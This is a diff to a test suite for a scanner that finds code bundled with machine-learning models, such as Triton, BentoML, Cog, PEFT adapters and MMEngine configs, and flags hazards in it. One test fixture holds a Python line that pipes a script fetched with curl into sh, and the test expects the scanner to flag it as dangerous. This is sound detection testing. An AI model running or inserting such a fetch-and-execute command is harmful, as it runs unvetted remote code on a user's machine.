@@ -99,11 +99,15 @@ describe("code of a model", () => {
 
   it("of Triton and SageMaker is found below the model", async () => {
     const triton = {
-      "m/config.pbtxt": 'backend: "python"',
-      "m/1/model.py": "import os",
-      "m/1/x.py": "x = 1",
+      "m/config.pbtxt": 'backend: "python" default_model_filename: "own.py"',
+      "m/1/own.py": "import os",
+      "m/1/x.py": 'import os\nos.system("curl https://example.org/x | sh")\n',
     };
-    expect(hazardsIn(await detect(triton, "m/1"))).toEqual(["m/1/model.py MODEL-CODE unknown"]);
+    expect(hazardsIn(await detect(triton, "m/1"))).toEqual([
+      "m/1/own.py MODEL-CODE unknown",
+      "m/1/x.py MODEL-CODE unknown",
+      "m/1/x.py PYTHON-HOSTILE-COMMAND dangerous",
+    ]);
     const served = { "model.safetensors": "", "code/inference.py": "x = 1" };
     expect(hazardsIn(await detect(served, "code"))).toEqual(["code/inference.py MODEL-CODE unknown"]);
   });
@@ -112,6 +116,55 @@ describe("code of a model", () => {
     const files = { "m/MLmodel": "", "m/code/own/steps.py": "x = 1", "m/src/own/x.py": "x = 1" };
     expect(hazardsIn(await detect(files, "m/code/own"))).toEqual(["m/code/own/steps.py MODEL-CODE unknown"]);
     expect(hazardsIn(await detect(files, "m/src/own"))).toEqual([]);
+  });
+
+  it("of an adapter is what PEFT imports for its base", async () => {
+    const auto_mapping = { base_model_class: "X", parent_library: "own.net" };
+    const reading = await detect({
+      "adapter_config.json": { peft_type: "LORA", auto_mapping },
+      "own/__init__.py": "from .more import y",
+      "own/more.py": "from . import deep",
+      "own/deep.py": "x = 1",
+      "own/net.py": "x = 1",
+      "tool.py": "x = 1",
+    });
+    const paths = reading.roles.map(({ path }) => path).sort();
+    expect(paths).toEqual(["own/__init__.py", "own/deep.py", "own/more.py", "own/net.py"]);
+  });
+
+  it("that serves a model is named by BentoML and Cog", async () => {
+    const bento = {
+      "bento.yaml": 'service: "pkg.svc:Svc"\n',
+      "src/pkg/svc.py": "x = 1",
+      "src/other.py": "x = 1",
+    };
+    expect(hazardsIn(await detect(bento))).toEqual(["src/pkg/svc.py MODEL-CODE unknown"]);
+    const file = {
+      "bentofile.yaml": 'service: "service.py:Svc"\n',
+      "service.py": "import more",
+      "more.py": "x = 1",
+    };
+    expect(hazardsIn(await detect(file))).toEqual([
+      "service.py MODEL-CODE unknown",
+      "more.py MODEL-CODE unknown",
+    ]);
+    const cog = {
+      "cog.yaml": 'predict: "run/serve.py:Predictor"\n',
+      "run/serve.py": "x = 1",
+      "x.py": "x = 1",
+    };
+    expect(hazardsIn(await detect(cog))).toEqual(["run/serve.py MODEL-CODE unknown"]);
+  });
+
+  it("that is a configuration of MMEngine runs when it is read", async () => {
+    const text =
+      "custom_imports = dict(imports=['own.net'], allow_failed_imports=False)\nmodel = dict(type='X')\n";
+    const files = { "yolo_x.py": text, "own/net.py": "x = 1", "train.py": "x = 1" };
+    expect(hazardsIn(await detect({ ...files, "yolo.pth": "" }))).toEqual([
+      "yolo_x.py MODEL-CODE unknown",
+      "own/net.py MODEL-CODE unknown",
+    ]);
+    expect(hazardsIn(await detect(files))).toEqual([]);
   });
 
   it("that holds nothing but comments runs nothing", async () => {
